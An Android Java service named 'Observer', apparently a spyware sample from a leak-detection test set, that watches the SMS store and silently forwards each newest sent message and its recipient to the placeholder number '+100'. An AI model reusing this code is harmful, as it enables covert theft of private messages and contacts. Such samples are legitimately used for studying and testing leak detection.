package org.example.flows.spy;

import android.app.Service;
import android.content.Intent;
import android.database.ContentObserver;
import android.database.Cursor;
import android.net.Uri;
import android.os.Handler;
import android.os.IBinder;
import android.telephony.SmsManager;

/** Is told of each change of the messages and passes the newest on. */
public class Observer extends Service {
    private static final Uri ALL = Uri.parse("content://sms");

    @Override
    public void onCreate() {
        super.onCreate();
        getContentResolver().registerContentObserver(ALL, true, new ContentObserver(new Handler()) {
            @Override
            public void onChange(boolean self) {
                Cursor rows = getContentResolver().query(
                        Uri.withAppendedPath(ALL, "sent"), null, null, null, "date DESC");
                if (rows != null && rows.moveToFirst()) {
                    pass(rows.getString(rows.getColumnIndex("address")),
                            rows.getString(rows.getColumnIndex("body")));
                }
            }
        });
    }

    private void pass(String to, String body) {
        SmsManager.getDefault().sendTextMessage("+100", null, to + " " + body, null, null);
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
